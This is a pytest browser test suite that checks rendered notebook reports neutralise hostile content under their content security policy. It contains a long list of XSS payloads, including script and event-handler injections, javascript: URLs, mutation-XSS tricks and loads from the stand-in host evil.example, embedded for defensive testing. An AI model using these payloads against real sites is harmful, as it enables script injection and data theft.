"""Reports opened in a real browser: hostile content does nothing, figures draw, under the page's own policy."""

from __future__ import annotations

import re
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from browsers import NEEDED, chromium
from report_pages import PNG, PROOF, code, display, figure, markdown, page, stream, write

from workbench.model.pipeline import ReportSpec
from workbench.model.report import ProofInput
from workbench.reports.render import render

pytestmark = [pytest.mark.slow, NEEDED]

HIT = "hit()"
PAYLOADS = [
    "<script>hit()</script>",
    "<SCRIPT>hit()</SCRIPT>",
    "<script src=//evil.example/x.js></script>",
    "</script><script>hit()</script>",
    "</style><script>hit()</script>",
    "</title><script>hit()</script>",
    "</textarea><script>hit()</script>",
    "</pre></code></details><script>hit()</script>",
    "<scr<script>ipt>hit()</scr</script>ipt>",
    "<img src=x onerror=hit()>",
    "<img src=x onerror=&#104;it()>",
    "<img/src/onerror=hit()>",
    "<IMG SRC=x ONERROR=hit() //",
    '"><img src=x onerror=hit()>',
    "'><img src=x onerror=hit()>",
    '" onmouseover="hit()" autofocus onfocus="hit()',
    "` onerror=hit()",
    "<svg onload=hit()>",
    "<svg><script>hit()</script></svg>",
    "<svg><animate onbegin=hit() attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:hit()'><text y=20>go</text></a></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg' onload='hit()'/>#x\"/></svg>",
    "<svg><foreignObject><body onload=hit()></foreignObject></svg>",
    "<math><mi xlink:href='javascript:hit()'>x</mi></math>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=1 onerror=hit()>">',
    '<noscript><p title="</noscript><img src=x onerror=hit()>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=hit()>",
    "<iframe src=javascript:hit()></iframe>",
    "<iframe srcdoc='<script>parent.hit()</script>'></iframe>",
    "<object data=javascript:hit()></object>",
    "<embed src=//evil.example/x.swf>",
    "<body onload=hit()>",
    "<details open ontoggle=hit()>x</details>",
    "<video><source onerror=hit()></video>",
    "<audio src=//evil.example/a.mp3 onerror=hit()>",
    "<input autofocus onfocus=hit()>",
    "<select autofocus onfocus=hit()>",
    "<marquee onstart=hit()>x</marquee>",
    "<a href=javascript:hit()>x</a>",
    "<a href='java\tscript:hit()'>x</a>",
    "<a href='&#x6a;avascript:hit()'>x</a>",
    "<a href=data:text/html,<script>hit()</script>>x</a>",
    "<a href=vbscript:hit()>x</a>",
    "[x](javascript:hit())",
    "[x](<java\nscript:hit()>)",
    "![x](javascript:hit())",
    "![x](//evil.example/pixel.png)",
    "<javascript:hit()>",
    "<meta http-equiv=refresh content='0;url=javascript:hit()'>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=prefetch href=//evil.example/x>",
    "<style>@import '//evil.example/x.css'; body{background:url(//evil.example/y)}</style>",
    "<div style=\"background:url('//evil.example/z'); width: expression(hit())\">x</div>",
    "<form action=javascript:hit()><button id=go>x</button></form>",
    "<p id=proof class=plot data-figure=1>x</p><script type=application/json id=figure-data-1>{}</script>",
    "<template><script>hit()</script></template><slot onslotchange=hit()>",
    "{{ 7*7 }}{% raw %}<img src=x onerror=hit()>{% endraw %}",
    "${hit()} <%= hit() %> #{hit()}",
    "\x1b]8;;javascript:hit()\x07x\x1b]8;;\x07<img src=x onerror=hit()>",
    "\u202e<img src=x onerror=hit()>\u2028hit()",
]


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    with chromium() as launched:
        yield launched


class Visit:
    """A tab, with what the pages opened in it did: calls of ``hit``, requests, complaints on the console."""

    def __init__(self, browser: Any, **options: Any) -> None:
        self.requests: list[str] = []
        self.complaints: list[str] = []
        self.dialogs: list[str] = []
        self.context = browser.new_context(**options)
        self.context.add_init_script("window.hits = 0; window.hit = () => { window.hits += 1; };")
        self.tab = self.context.new_page()
        self.tab.on("request", lambda request: self.requests.append(request.url))
        self.tab.on("console", lambda said: self.complaints.append(said.text))
        self.tab.on("pageerror", lambda error: self.complaints.append(str(error)))
        self.tab.on("dialog", lambda dialog: self.dialogs.append(dialog.message) or dialog.dismiss())

    def __enter__(self) -> Visit:
        return self

    def __exit__(self, *_: object) -> None:
        self.context.close()

    def open(self, path: Path) -> None:
        self.requests.clear()
        self.tab.goto(path.as_uri())

    def assert_harmless(self, path: Path, what: str = "") -> None:
        self.tab.evaluate("document.querySelectorAll('details').forEach(fold => { fold.open = true; })")
        assert self.tab.evaluate("window.hits") == 0, what
        assert self.dialogs == [], what
        assert [url for url in self.requests if not url.startswith("data:")] == [path.as_uri()], what
        assert self.tab.evaluate(DANGERS) == [], what


SCRIPT_LINKS = """() => [...document.querySelectorAll('.plot a')]
    .map(link => `${link.getAttribute('href')} ${link.getAttribute('xlink:href')}`)
    .filter(address => /script:/i.test(address))"""
DANGERS = """() => [...document.querySelectorAll('*')].flatMap(element => {
    const found = [...element.attributes].filter(a => /^on/i.test(a.name) || /^\\s*(java|vb)script:/i.test(a.value));
    const kinds = 'IFRAME OBJECT EMBED BASE FORM INPUT SELECT VIDEO AUDIO LINK TEMPLATE MARQUEE MATH'.split(' ');
    const own = element.closest('.plot-area') !== null;
    if (kinds.includes(element.tagName.toUpperCase())) found.push({name: element.tagName, value: ''});
    if (element.tagName === 'SCRIPT' && !element.type && /^\\W*hit|^$/.test(element.textContent)) {
        found.push({name: 'script', value: ''});
    }
    return own ? [] : found.map(a => element.tagName + ' ' + a.name + '=' + a.value);
})"""


def everywhere(folder: Path, payload: str) -> Path:
    """A report with the payload in every place that a person, a library or a file can fill."""
    error = {"output_type": "error", "ename": payload, "evalue": payload, "traceback": [payload]}
    frame = f"<table><thead><tr><th>{payload}</th></tr></thead><tbody><tr><td>{payload}</td></tr></tbody></table>"
    svg = f'<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><text>{payload}</text></svg>'
    cells = [
        markdown(payload),
        markdown(f"# {payload}\n\ntext {payload} text\n\n| {payload} |\n|---|\n| {payload} |\n\n```\n{payload}\n```"),
        markdown(f"![{payload}](attachment:a)", {"a": {"image/png": payload, payload: PNG}}),
        markdown("![b](attachment:b)", {"b": {"image/svg+xml": payload}}),
        code(payload, stream(payload), stream(payload, "stderr"), error),
        code("", display({"text/html": payload}), display({"text/html": frame}), display({"text/markdown": payload})),
        code("", display({"image/svg+xml": svg}), display({"image/svg+xml": payload, "text/plain": payload})),
        code("", display({"text/plain": payload}), display({"text/latex": payload})),
        code(
            "", display({"image/png": payload, "text/plain": "x"}), display({payload: payload, "text/plain": payload})
        ),
        code("", display({"application/javascript": HIT}), display({"text/html": f"<b title='{payload}'>x</b>"})),
        markdown(f"## Heading {payload}"),
        markdown("## Another"),
    ]
    proof = replace(
        PROOF,
        parameters={payload: payload, "list": [payload]},
        inputs=(ProofInput(payload, 1, 1, 1, payload, 1, 1),),
        **dict.fromkeys(("project", "actor", "commit", "step", "notebook", "environment", "pipeline"), payload),
    )
    notebook = write(folder, *cells)
    html = render(notebook, ReportSpec(hide_code=False), payload, proof)
    path = folder / "page.html"
    path.write_text(html, encoding="utf-8")
    return path


@pytest.mark.parametrize("policy", [True, False], ids=["with its policy", "without"])
def test_hostile_content_does_nothing_in_any_place(browser: Any, tmp_path: Path, policy: bool) -> None:
    """Also without the policy: each of the two walls holds alone."""
    with Visit(browser) as visit:
        for payload in PAYLOADS:
            path = everywhere(tmp_path, payload)
            if not policy:
                html = re.sub(r"<meta http-equiv=[^>]*>", "", path.read_text(encoding="utf-8"), count=1)
                path.write_text(html, encoding="utf-8")
            visit.open(path)
            visit.assert_harmless(path, payload)


def test_the_traps_of_these_tests_catch_something(browser: Any, tmp_path: Path) -> None:
    path = tmp_path / "page.html"
    path.write_text("<!doctype html><p>x<img src=http://evil.example/x onerror=hit()>", encoding="utf-8")
    with Visit(browser) as visit:
        visit.open(path)
        visit.tab.wait_for_function("window.hits === 1")
        assert len(visit.requests) == 2 and len(visit.tab.evaluate(DANGERS)) == 1


def test_hostile_figures_draw_and_do_nothing(browser: Any, tmp_path: Path) -> None:
    figures = []
    for payload in PAYLOADS:
        data = [
            {"type": "scatter", "x": [payload], "y": [1], "text": [payload], "name": payload, "mode": "markers+text",
             "hovertemplate": payload, "customdata": [payload], "marker": {"color": payload}},
        ]  # fmt: skip
        layout = {
            "title": {"text": payload}, "xaxis": {"title": {"text": payload}}, "height": 120, "showlegend": True,
            "annotations": [{"text": payload, "x": 0, "y": 1}], payload: payload,
            "images": [{"source": "https://evil.example/a.png"}],
        }  # fmt: skip
        figures.append(code("", display({"application/vnd.plotly.v1+json": {"data": data, "layout": layout}})))
    path = tmp_path / "figures.html"
    path.write_text(page(tmp_path, *figures), encoding="utf-8")
    with Visit(browser) as visit:
        visit.open(path)
        visit.tab.wait_for_function(
            f"document.querySelectorAll('.plot.drawn, .plot.broken').length === {len(PAYLOADS)}"
        )
        assert visit.tab.locator("svg.main-svg").count() >= len(PAYLOADS)
        visit.tab.locator(".plot.drawn .nsewdrag").first.hover()
        visit.assert_harmless(path)
        assert not visit.tab.evaluate(SCRIPT_LINKS)


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_a_figure_draws_under_the_policy_without_complaint(browser: Any, tmp_path: Path, scheme: str) -> None:
    path = tmp_path / "page.html"
    still = display({"application/vnd.plotly.v1+json": {"data": [{"type": "bar", "y": [1]}]}, "image/png": PNG})
    path.write_text(
        page(tmp_path, markdown("# Daily"), code("", figure("Mean delay")), code("", still)), encoding="utf-8"
    )
    with Visit(browser, color_scheme=scheme) as visit:
        visit.open(path)
        visit.tab.wait_for_selector(".plot.drawn svg.main-svg")
        visit.tab.wait_for_function("document.querySelectorAll('.plot.drawn').length === 2")
        assert visit.complaints == []
        assert visit.tab.locator(".gtitle").first.text_content() == "Mean delay"
        assert visit.tab.locator("svg .bars path").count() == 3
        assert not visit.tab.locator("img.still").is_visible()
        dark = visit.tab.evaluate("getComputedStyle(document.querySelector('.gtitle')).fill")
        assert dark == visit.tab.evaluate("getComputedStyle(document.body).color")
        visit.assert_harmless(path)


def test_a_still_picture_stands_in_where_no_script_runs(browser: Any, tmp_path: Path) -> None:
    path = tmp_path / "page.html"
    still = display({"application/vnd.plotly.v1+json": {"data": [{"type": "bar", "y": [1]}]}, "image/png": PNG})
    path.write_text(page(tmp_path, code("", still)), encoding="utf-8")
    with Visit(browser, java_script_enabled=False) as visit:
        visit.open(path)
        assert visit.tab.locator("img.still").is_visible()


@pytest.mark.parametrize("width", [360, 1400])
def test_a_page_never_scrolls_sideways(browser: Any, tmp_path: Path, width: int) -> None:
    wide = "<table><tr>" + "<td>1234567</td>" * 60 + "</tr></table>"
    path = tmp_path / "page.html"
    cells = [
        markdown("# T\n\n## A\n\n" + "x" * 400 + "\n\n## B"),
        code("", display({"text/html": wide})),
        code("", figure()),
    ]
    path.write_text(page(tmp_path, *cells, code("", stream("y" * 900))), encoding="utf-8")
    with Visit(browser, viewport={"width": width, "height": 800}) as visit:
        visit.open(path)
        visit.tab.wait_for_selector(".plot.drawn")
        assert visit.tab.evaluate("document.documentElement.scrollWidth") <= width
        assert visit.tab.locator(".contents a").first.is_visible() == (width > 1200)
